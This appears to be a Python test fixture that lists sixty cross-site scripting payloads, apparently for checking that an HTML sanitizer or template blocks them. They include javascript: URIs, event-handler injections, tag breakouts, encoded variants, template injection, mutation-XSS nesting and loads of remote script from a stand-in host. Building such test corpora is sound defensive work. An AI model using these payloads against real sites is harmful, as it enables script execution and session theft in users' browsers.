"""Sixty texts that are meant to run a script, or to fetch something from elsewhere, in whatever place of a page.

Five of them together make one text, so that twelve texts hold them all. Some act only where a text begins, so they
stand first; some swallow what follows them, so they stand last.
"""

FIRST = (
    "javascript:RAN",
    "java\tscript:RAN",
    "data:text/html,<script>RAN</script>",
    "//elsewhere.example/",
    "x onfocus=RAN autofocus tabindex=1",
    '" autofocus onfocus="RAN',
    "' autofocus onfocus='RAN",
    '" onmouseover="RAN',
    '" style="background:url(//elsewhere.example/x)" x="',
    "{{ 7 * 7 }}{{ ''.__class__ }}<script>RAN</script>",
    "${RAN}",
    "<script>RAN</script>",
)
BETWEEN = (
    '"><script>RAN</script>',
    "'><script>RAN</script>",
    "</textarea><script>RAN</script>",
    "</title><script>RAN</script>",
    "</option></select><script>RAN</script>",
    "</script><script>RAN</script>",
    "--><script>RAN</script>",
    "</style><script>RAN</script>",
    "<SCRIPT SRC=data:text/javascript,RAN></SCRIPT>",
    '<script src="//elsewhere.example/x.js"></script>',
    "\uff1cscript\uff1eRAN\uff1c/script\uff1e",
    "<img src=x onerror=RAN>",
    '"><img src=x onerror="RAN">',
    "'><img src=x onerror='RAN'>",
    "<img/src/onerror=RAN>",
    "<img src=`x` onerror=`RAN`>",
    "<svg onload=RAN></svg>",
    "<svg><script>RAN</script></svg>",
    "<svg><animate onbegin=RAN attributeName=x dur=1s></svg>",
    "<body onload=RAN>",
    "<details open ontoggle=RAN></details>",
    "<input autofocus onfocus=RAN>",
    "<video><source onerror=RAN></video>",
    "<audio src=x onerror=RAN></audio>",
    "<marquee onstart=RAN></marquee>",
    '<a href="javascript:RAN">x</a>',
    '<svg><a xlink:href="javascript:RAN"><text y=20>x</text></a></svg>',
    '<form action="javascript:RAN"><button>x</button></form>',
    '<button formaction="javascript:RAN">x</button>',
    '<link rel=stylesheet href="//elsewhere.example/x.css">',
    '<div style="background:url(//elsewhere.example/x)"></div>',
    "&lt;script&gt;RAN&lt;/script&gt;",
    "%3Cscript%3ERAN%3C/script%3E",
    "\\u003cscript\\u003eRAN\\u003c/script\\u003e",
    '<b hx-get="/healthz" hx-trigger="load" hx-on:load="RAN"></b>',
    '<b hx-on="htmx:load: RAN" data-hx-on:click="RAN"></b>',
)
LAST = (
    "<scr<script>ipt>RAN</scr</script>ipt>",
    '<iframe srcdoc="<script>parent.RAN</script>"></iframe>',
    '<iframe src="javascript:parent.RAN"></iframe>',
    '<object data="data:text/html,<script>RAN</script>"></object>',
    '<embed src="data:text/html,<script>RAN</script>">',
    '<base href="//elsewhere.example/">',
    '<meta http-equiv=refresh content="0;url=//elsewhere.example/">',
    "<style>@import '//elsewhere.example/x.css';</style>",
    "<style>*{background:url(//elsewhere.example/x)}</style>",
    "<template><img src=x onerror=RAN></template>",
    '<noscript><p title="</noscript><img src=x onerror=RAN>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RAN&gt;">',
)
PAYLOADS = tuple(text.replace("RAN", f"ran({number})") for number, text in enumerate((*FIRST, *BETWEEN, *LAST)))
TEXTS = tuple(" ".join(PAYLOADS[number :: len(FIRST)]) for number in range(len(FIRST)))
